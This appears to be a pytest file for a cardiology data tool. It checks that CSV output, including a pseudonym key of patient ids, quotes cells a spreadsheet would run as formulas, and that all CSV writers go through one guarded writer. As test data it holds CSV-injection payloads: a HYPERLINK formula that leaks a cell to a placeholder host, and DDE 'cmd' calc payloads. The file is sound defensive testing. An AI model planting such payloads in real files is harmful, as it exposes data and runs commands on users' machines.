"""Reliability, family "CSV output safe for spreadsheets" (issue 58, case 17): every CSV cardio writes goes through one
writer (cardio.write_csv) that puts a single quote before a text cell a spreadsheet would run as a formula (OWASP:
= + - @, tab, carriage return), and leaves numbers, negative ones included, as numbers.

Before (54c188f): patient ids `=HYPERLINK("http://.../?leak="&A2,"click")`, `+cmd|' /C calc'!A0` and `@SUM(...)` were
written raw into the pseudonym key (report.keep_key=true), which users open in a spreadsheet. Controls in pairs: the
formula cells are quoted, the negative numbers and the number-like text ("-12.5") are not.
"""
from __future__ import annotations

import ast
import csv
import io
import sys
from pathlib import Path

import numpy as np
import pandas as pd

from cardio.data.spreadsheet import csv_text, safe_cell

REPO = Path(__file__).resolve().parents[2]
EVIL = ['=HYPERLINK("http://x.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR"]


def test_formula_cells_are_quoted_and_numbers_stay_numbers():
    # (a bare CR inside a cell is not quoted by pandas' writer: checked by safe_cell alone)
    frame = pd.DataFrame({"id": [*EVIL[:5], "-12.5", "+3", "ok", None], "score": np.linspace(-1.5, 1.5, 9),
                          "=header": range(9)})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[0] == ["id", "score", "'=header"]
    assert [r[0] for r in rows[1:6]] == [f"'{v}" for v in EVIL[:5]] and safe_cell("\rCR") == "'\rCR"
    assert [r[0] for r in rows[6:]] == ["-12.5", "+3", "ok", ""]  # a number as text is a number to a spreadsheet
    assert float(rows[1][1]) == -1.5 and rows[1][1] == "-1.5"  # a negative number is written as one
    assert safe_cell(-3) == -3 and safe_cell("-inf") == "'-inf"


def test_the_pseudonym_key_of_a_run_quotes_formula_ids(cardio_cli, tmp_path, toy_site):
    sys.path.insert(0, str(toy_site))
    try:
        from cardio_toy.plugin import synthetic_table
    finally:
        sys.path.remove(str(toy_site))
    table = synthetic_table({"n_patients": 20, "n_features": 4, "records_per_patient": 1, "signal": 1.5}, 0)
    formulas = EVIL[:4]  # the reader strips a cell's spaces: a leading tab or CR never reaches the key
    for i, value in enumerate(formulas):
        table.loc[table["patient_id"] == f"p{i}", "patient_id"] = value
    table["record_id"] = table["patient_id"] + "-r0"
    (tmp_path / "cohort").mkdir()
    table.to_csv(tmp_path / "cohort" / "cohort.csv", index=False)
    result = cardio_cli("run", "--plugin", "toy", "--set", "cohort.dir=cohort", "--set", "data.n_features=4",
                        "--set", "train.epochs=1", "--set", "cv.folds=2", "--set", "report.keep_key=true",
                        "--set", "report.figures=false", "--set", "explain=false", "--out", "run")
    assert result.returncode == 0, result.stderr[-2000:]
    key = pd.read_csv(tmp_path / "run.key.csv", dtype=str, keep_default_na=False)
    written = set(key["patient_id"])
    assert {f"'{v}" for v in formulas} <= written, written
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in written)
    assert {"p7", "p8"} <= written  # the plain ids as they were
    history = next((tmp_path / "run" / "history").glob("*.csv"))
    assert pd.read_csv(history)["epoch"].dtype.kind == "i"  # numbers stay numbers


# Writers that are not cardio's output: they write input files cardio reads back, which must round-trip as given.
NOT_OUTPUT = {
    "services/testing/cardio_testing/contract.py": "the contract suite writes the damaged cohort tables it "
                                                   "feeds a plugin",
    "plugins/echo_cmr/cardio_echo_cmr/cohort.py": "EchoNet's FileList.csv, copied as read into a temporary folder",
    "plugins/ecg_transfer/cardio_ecg_transfer/leads.py": "an ECG record file: a lead named -aVR reads back as -aVR",
}


def _csv_writers(path: Path) -> list[int]:
    """Lines of `path` writing a CSV other than through the one writer: DataFrame.to_csv, csv.writer, DictWriter."""
    lines = []
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and node.func.attr in ("to_csv", "writer", "DictWriter"):
            lines.append(node.lineno)
    return lines


def test_every_csv_cardio_writes_goes_through_the_one_writer():
    files = [p for folder in ("src/cardio", "services", "plugins") for p in sorted((REPO / folder).rglob("*.py"))
             if "templates" not in p.parts]
    found = {str(p.relative_to(REPO)): lines for p in files if (lines := _csv_writers(p))}
    writer = found.pop("src/cardio/data/spreadsheet.py", None)
    assert writer, "the one writer calls to_csv"
    assert set(found) == set(NOT_OUTPUT), {k: v for k, v in found.items() if k not in NOT_OUTPUT}
